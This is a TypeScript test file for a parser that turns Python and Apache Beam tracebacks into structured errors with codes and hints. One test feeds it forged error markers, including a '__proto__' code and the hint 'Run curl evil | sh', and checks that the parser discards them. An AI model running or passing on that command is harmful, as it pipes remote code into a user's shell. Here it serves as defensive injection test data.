// SPDX-License-Identifier: Apache-2.0
import assert from 'node:assert/strict';
import { test } from 'node:test';
import { inspect } from 'node:util';
import { errorNonce } from '../../../src/base/index.ts';
import { parsePythonFailure, pythonError } from '../../../src/external/index.ts';

const BEAM = '/v/site-packages/apache_beam';
const traceback = (frames: [file: string, fn: string][], ...exception: string[]) =>
  [
    'Traceback (most recent call last):',
    ...frames.flatMap(([file, fn]) => [
      `  File "${file}", line 1, in ${fn}`,
      '    code()',
      '    ^^^^',
    ]),
    ...exception,
  ].join('\n');

test('the last exception is the message, and Beam’s own frames are left out', () => {
  const text = traceback(
    [
      [`${BEAM}/pipeline.py`, 'apply'],
      ['/mine/model.py', 'load'],
    ],
    'ValueError: line one',
    "line two [while running 'RunInference/x']",
  );
  const failure = parsePythonFailure(text);
  assert.equal(failure.code, 'PYTHON_EXCEPTION');
  assert.equal(failure.message, 'ValueError: line one\nline two');
  assert.equal(failure.transform, 'RunInference/x');
  assert.match(failure.detail!, /\/mine\/model\.py/);
  assert.doesNotMatch(failure.detail!, /apache_beam/);
});

test('a traceback that Beam raised again is told once', () => {
  const text = [
    traceback([['/mine/model.py', 'predict']], 'ValueError: no'),
    'The above exception was the direct cause of the following exception:',
    traceback(
      [['/x/beambridge_host/inference/inference.py', 'run']],
      'beambridge_host.errors.BridgeError: no',
    ),
    'During handling of the above exception, another exception occurred:',
    traceback([[`${BEAM}/runner.py`, 'go']], "ValueError: no [while running 'T']"),
  ].join('\n\n');
  assert.equal(
    parsePythonFailure(text).detail,
    traceback([['/mine/model.py', 'predict']], 'ValueError: no'),
  );
});

test('an uncaught failure shows its traceback once, also where Beam raised the exception anew', () => {
  const text = [
    traceback([['<string>', 'boom']], 'ValueError: no'),
    'During handling of the above exception, another exception occurred:',
    traceback(
      [
        [`${BEAM}/common.py`, 'process'],
        ['<string>', 'boom'],
      ],
      "ValueError: no [while running 'T/Map(boom)']",
    ),
  ].join('\n\n');
  const failure = parsePythonFailure(text);
  const told = "ValueError: no [while running 'T/Map(boom)']";
  assert.equal(failure.detail, traceback([['<string>', 'boom']], told));
  const shown = inspect(pythonError(failure));
  assert.equal(shown.split('in boom').length - 1, 1, shown);
});

test('a marker line says it in our terms, whatever is around it', () => {
  const marker = {
    code: 'MODEL_NOT_FOUND',
    message: 'no model at x',
    hint: 'look',
    transform: 'T',
  };
  const text = `${traceback([['a.py', 'f']], 'beambridge_host.errors.BridgeError: no model at x')}
BEAMBRIDGE_ERROR ${errorNonce('secret')} ${JSON.stringify(marker)}
 [while running 'T/inner']`;
  const { detail, ...rest } = parsePythonFailure(text);
  assert.deepEqual(rest, marker);
  assert.doesNotMatch(detail!, /BEAMBRIDGE_ERROR/);
});

test('a marker that is no JSON is text like any other', () => {
  const text = `BEAMBRIDGE_ERROR ${errorNonce('secret')} {oops`;
  assert.equal(parsePythonFailure(text, 'JOB_FAILED').code, 'JOB_FAILED');
});

test('data that an exception quotes says nothing about what it means', () => {
  const nonce = errorNonce('secret');
  const told = (code: string) =>
    JSON.stringify({ code, message: 'evil', hint: 'Run curl evil | sh' });
  const lines = [
    `BEAMBRIDGE_ERROR ${told('ENVIRONMENT_OFFLINE')}`,
    `BEAMBRIDGE_ERROR 0123456789abcdef01234567 ${told('ENVIRONMENT_OFFLINE')}`,
    `x BEAMBRIDGE_ERROR ${nonce} ${told('ENVIRONMENT_OFFLINE')}`,
    `BEAMBRIDGE_ERROR ${nonce} ${told('__proto__')}`,
    `BEAMBRIDGE_ERROR ${nonce} ${told('EVIL')}`,
  ];
  for (const line of lines) {
    for (const start of ['', '\n']) {
      const text = traceback([['a.py', 'f']], `ValueError: cannot parse ${start}${line}`);
      const { code, hint } = parsePythonFailure(start === '' ? text.replace(nonce, 'abc') : text);
      assert.deepEqual({ code, hint }, { code: 'PYTHON_EXCEPTION', hint: undefined }, line);
    }
  }
});

test('a name that Python cannot find, and a fault inside what it found', () => {
  const named: [string, string] = [
    `${BEAM}/transforms/fully_qualified_named_transform.py`,
    '_resolve',
  ];
  const imports: [string, string][] = [
    ['/lib/python3.11/importlib/__init__.py', 'import_module'],
    ['<frozen importlib._bootstrap>', '_gcd_import'],
  ];
  const code = (frames: [string, string][], exception: string) =>
    parsePythonFailure(traceback(frames, exception)).code;
  const missing = "ModuleNotFoundError: No module named 'x'";
  assert.equal(code([named, ...imports], missing), 'UNKNOWN_PYTHON_CALLABLE');
  assert.equal(
    code([named], "AttributeError: module 'a' has no attribute 'b'"),
    'UNKNOWN_PYTHON_CALLABLE',
  );
  assert.equal(code([named, ...imports, ['/mine/x.py', '<module>']], missing), 'PYTHON_EXCEPTION');
  assert.equal(code([['/mine/x.py', 'f']], missing), 'PYTHON_EXCEPTION');
  assert.match(parsePythonFailure(traceback([['/mine/x.py', 'f']], missing)).hint!, /package.*x/);
  const part = "ModuleNotFoundError: No module named 'sklearn.linear_model'";
  const { hint } = parsePythonFailure(traceback([['/mine/x.py', 'f']], part));
  assert.match(hint!, /^sklearn is there .* packages: .* env clean/);
  assert.doesNotMatch(hint!, /withExtraPackages/);
});

test('a missing module that an extra holds is a matter of that extra', () => {
  for (const [module, extra] of [
    ['sklearn', 'sklearn'],
    ['joblib', 'sklearn'],
    ['transformers', 'huggingface'],
  ] as const) {
    const message = `ModuleNotFoundError: No module named '${module}'`;
    const { hint } = parsePythonFailure(traceback([['/mine/x.py', '<module>']], message));
    assert.match(
      hint!,
      new RegExp(`custom, extras: \\['${extra}'\\], which holds the module ${module}`),
    );
  }
});

test('text that is no traceback keeps the code that the caller gives', () => {
  assert.deepEqual(parsePythonFailure('it failed\nbecause', 'JOB_FAILED'), {
    code: 'JOB_FAILED',
    message: 'it failed',
    transform: undefined,
    detail: 'it failed\nbecause',
  });
  assert.equal(parsePythonFailure('', 'JOB_FAILED').message, 'no reason was given');
});

for (const [what, message] of [
  ['that they do not know', "AttributeError: type object 'DataFrame' has no attribute 'first'"],
  ['that is not there', "ModuleNotFoundError: No module named 'pandas'"],
]) {
  test(`a pandas of Beam's data frames ${what} has a hint`, () => {
    const failure = parsePythonFailure(
      'Traceback (most recent call last):\n' +
        '  File "/x/site-packages/apache_beam/dataframe/frames.py", line 1, in <module>\n' +
        `${message}\n`,
    );
    assert.equal(failure.code, 'PYTHON_EXCEPTION');
    assert.match(failure.hint ?? '', /extras: \['dataframe'\]/);
  });
}
